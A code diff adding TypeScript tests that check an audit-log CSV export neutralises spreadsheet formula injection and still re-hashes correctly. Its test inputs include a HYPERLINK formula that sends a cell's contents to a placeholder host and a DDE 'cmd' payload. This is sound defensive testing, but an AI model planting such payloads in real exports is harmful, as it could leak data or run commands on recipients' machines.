@@ -10,6 +10,7 @@ import {
 } from '../../../functions/operations/agreement-history.js';
 import { appendEvents, EMPTY_CHAIN } from '../../../shared/domain/hash-chain.js';
 import { ZAuditQuery, ZHistoryQuery } from '../../../shared/schemas/audit.js';
+import { parseCsv } from '../../integration/audit-fixtures.js';
 
 const events = appendEvents(EMPTY_CHAIN, [
   {
@@ -118,5 +119,59 @@ describe('query schemas', () => {
     bad({ actors: 'x' });
     expect(ZHistoryQuery.safeParse({ limit: '0' }).success).toBe(false);
     expect(ZHistoryQuery.safeParse({ from: '2022-07-26T00:00:00Z' }).success).toBe(false);
+  });
+});
+
+describe('CSV export against formula injection', () => {
+  test('CSV: a cell a spreadsheet would run as a formula is neutralised (OWASP)', () => {
+    for (const hostile of ['=HYPERLINK("http://x/?"&A1)', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
+      expect(csvField(hostile)).toBe(`"'${hostile.replaceAll('"', '""')}"`);
+    }
+    // A leading quote is escaped too, so that reading drops exactly one quote, always.
+    expect(csvField("'=already")).toBe(`"''=already"`);
+    expect(csvField('x=1')).toBe('x=1');
+  });
+
+  test('CSV: the chain re-hashes from the cells, with one leading quote dropped from neutralised ones', () => {
+    const hostileSubs = ["=cmd|' /C calc'!A0", '@evil', "'quoted", '-1', '+x', '\tTAB'];
+    const chain = appendEvents(
+      EMPTY_CHAIN,
+      hostileSubs.map((sub, index) => ({
+        agreementId: '01AGR',
+        at: `2022-07-26T09:3${index}:00.000Z`,
+        action: 'SIGNATURE_DECLINED' as const,
+        party: 'AZE',
+        actor: { sub, role: 'member' as const, party: 'AZE' },
+        data: { reason: `=1+${index}` },
+        requestId: `-req-${index}`,
+      })),
+    );
+    const [header, ...rows] = parseCsv(toCsv(chain));
+    const cell = (row: string[], column: (typeof CSV_COLUMNS)[number]) => {
+      const value = row[header!.indexOf(column)]!;
+      return value.startsWith("'") ? value.slice(1) : value;
+    };
+    rows.forEach((row, index) => {
+      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+      const event = {
+        agreementId: '01AGR',
+        seq: Number(cell(row, 'seq')),
+        at: cell(row, 'at'),
+        action: cell(row, 'action'),
+        ...(cell(row, 'party') && { party: cell(row, 'party') }),
+        actor: {
+          sub: cell(row, 'actor.sub'),
+          role: cell(row, 'actor.role'),
+          ...(cell(row, 'actor.party') && { party: cell(row, 'actor.party') }),
+        },
+        data: JSON.parse(cell(row, 'data')),
+        requestId: cell(row, 'requestId'),
+        prevHash: cell(row, 'prevHash'),
+      };
+      expect(event.actor.sub).toBe(hostileSubs[index]);
+      const hash = createHash('sha256').update(canonicalize(event), 'utf8').digest('hex');
+      expect(hash).toBe(cell(row, 'hash'));
+      expect(hash).toBe(chain[index]!.hash);
+    });
   });
 });
